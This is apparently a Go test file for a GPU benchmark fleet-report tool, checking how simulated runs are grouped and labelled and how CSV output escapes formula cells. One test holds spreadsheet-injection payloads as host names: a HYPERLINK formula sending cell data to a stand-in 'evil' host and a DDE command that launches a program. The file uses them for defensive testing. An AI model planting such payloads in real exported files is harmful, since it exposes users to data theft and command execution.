package fleet_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/p2pbench/p2pbench/fleet"
	"github.com/p2pbench/p2pbench/results"
	"github.com/p2pbench/p2pbench/results/resultstest"
)

// Simulated runs form types of their own: measured nodes are never held
// to simulated ones, however far the simulator's figures lie from theirs
// (hostile-input audit N4: two real runs among three simulated ones of
// the same machine were outliers of one type).
func TestSimulatedApart(t *testing.T) {
	sim := resultstest.Fleet{Nodes: 3, Prefix: "sim", Node: resultstest.Options{GPUs: 2, NoSweep: true, Samples: 5, Tests: []results.Test{results.CEWrite, results.SMWrite}}}
	real := resultstest.Fleet{Nodes: 2, Prefix: "real", Seed: 100, Node: sim.Node, SlowNodes: []resultstest.SlowNode{{Node: 0, Percent: 30}, {Node: 1, Percent: 30}}}
	var runs []*results.Run
	for i := range sim.Nodes {
		runs = append(runs, sim.Run(i))
	}
	for i := range real.Nodes {
		r := real.Run(i)
		r.Simulated, r.SimMachine = false, ""
		runs = append(runs, r)
	}
	got := build(fleet.Options{}, runs...)
	if len(got.Types) != 2 || got.Types[0].Nodes != 3 || !got.Types[0].Simulated || got.Types[1].Nodes != 2 || got.Types[1].Simulated {
		t.Fatalf("types %+v, want 3 simulated nodes and 2 measured apart", got.Types)
	}
	if !strings.Contains(got.Types[0].Note, "simulated runs, compared only with simulated runs") || strings.Contains(got.Types[1].Note, "another link topology") {
		t.Errorf("notes %q and %q", got.Types[0].Note, got.Types[1].Note)
	}
	for _, n := range got.Nodes {
		if n.Below > 0 || n.Attention() {
			t.Errorf("node %s: %d figures below its peers, verdict %s %v", n.Name, n.Below, n.Verdict, n.Reasons)
		}
	}
}

// The SIMULATED label is on the tables that hold a simulated node and on
// no other; one node is "1 node", its run "the node's run" (audit N22).
func TestSimulatedLabels(t *testing.T) {
	f := resultstest.Fleet{Nodes: 6, Node: resultstest.Options{GPUs: 2, NoSweep: true, Samples: 5, Tests: []results.Test{results.CEWrite}},
		WeakLinks: []resultstest.WeakLink{{Node: 2, SlowPair: resultstest.SlowPair{A: 0, B: 1, Percent: 20}}}}
	b := fleet.NewBuilder(fleet.Options{})
	for i := range f.Nodes {
		r := f.Run(i)
		r.Simulated = false
		b.Add(r.Host, r)
	}
	sim := f.Run(0)
	sim.Host = "simnode"
	b.Add(sim.Host, sim)
	b.AddError("broken.json", errBroken)
	var text bytes.Buffer
	if err := b.Fleet().WriteText(&text); err != nil {
		t.Fatal(err)
	}
	out := text.String()
	for _, line := range strings.Split(out, "\n") {
		for _, title := range []string{"Unreadable inputs", "Nodes that need attention", "T1: links below their peers", "T1: figures across nodes"} {
			if strings.HasSuffix(line, title) && strings.HasPrefix(line, "SIMULATED") {
				t.Errorf("a table of measured nodes only is labelled: %q", line)
			}
		}
	}
	for _, want := range []string{"SIMULATED: Machine types", "SIMULATED: T2: figures across nodes", "node0002", "1 of the 7 nodes' runs are simulated"} {
		if !strings.Contains(out, want) {
			t.Errorf("no %q in:\n%s", want, out)
		}
	}
	var one bytes.Buffer
	if err := build(fleet.Options{}, sim).WriteText(&one); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(one.String(), "p2pbench fleet: 1 node ====") || strings.Contains(one.String(), "1 nodes") ||
		!strings.Contains(one.String(), "SIMULATED: the node's run is simulated") || strings.Contains(one.String(), "node' ") {
		t.Errorf("a fleet of one node:\n%s", one.String())
	}
}

type brokenError struct{}

func (brokenError) Error() string { return "broken" }

var errBroken = brokenError{}

// A cell a spreadsheet would take for a formula is written as text: a host
// named =HYPERLINK(…) starts with an apostrophe, numbers keep their signs
// (audit N25).
func TestCSVFormulas(t *testing.T) {
	f := resultstest.Fleet{Nodes: 6, Node: resultstest.Options{GPUs: 2, NoSweep: true, Samples: 5, Tests: []results.Test{results.CEWrite}},
		WeakLinks: []resultstest.WeakLink{{Node: 1, SlowPair: resultstest.SlowPair{A: 0, B: 1, Percent: 20}}}}
	b := fleet.NewBuilder(fleet.Options{})
	evil := []string{`=HYPERLINK("http://evil/"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"}
	for i := range f.Nodes {
		r := f.Run(i)
		if i < len(evil) {
			r.Host = evil[i]
		}
		b.Add("node.json", r)
	}
	var out bytes.Buffer
	if err := b.Fleet().WriteCSV(&out); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	deficits := 0
	for _, r := range rows[1:] {
		for _, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !strings.HasPrefix(cell, "-") {
				t.Errorf("a cell a spreadsheet takes for a formula: %q", cell)
			}
		}
		if r[0] == "below_peers" {
			deficits++
			if r[1] != "'"+evil[1] {
				t.Errorf("the host of the weak link is written %q", r[1])
			}
		}
	}
	for _, r := range rows[1:] {
		if r[0] == "node" && strings.HasPrefix(r[1], "-") {
			t.Errorf("a name starting with a minus sign is written as it is: %q", r[1])
		}
	}
	if deficits == 0 {
		t.Error("no figure below its peers in the CSV")
	}
}

// Five healthy simulated runs of one machine, whose small transfers
// differ from run to run by what their own rounds differ by, name no node
// below its peers (hostile-input audit D5: three of the five were
// outliers, 5.1–7.3% worse on SM writes of 4 B to 256 KiB).
func TestHealthySimulatedNodes(t *testing.T) {
	f, err := fleet.Load([]string{"testdata"}, fleet.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if len(f.Nodes) != 5 || len(f.Unreadable) != 0 || f.Comparisons < 1500 {
		t.Fatalf("%d nodes, %d unreadable, %d comparisons: want the 5 of testdata, held to each other", len(f.Nodes), len(f.Unreadable), f.Comparisons)
	}
	for _, n := range f.Nodes {
		if n.Below > 0 || n.Peers != results.StatusPass || n.Attention() {
			t.Errorf("node %s: %d figures below its peers, peers %s, verdict %s: %v", n.Name, n.Below, n.Peers, n.Verdict, n.Reasons)
		}
		// Their own verdicts warn (the simulator's clocks and IPC): shown.
		if n.Own == nil || n.Verdict != n.Own.Status {
			t.Errorf("node %s: verdict %s, its own %+v", n.Name, n.Verdict, n.Own)
		}
	}
}
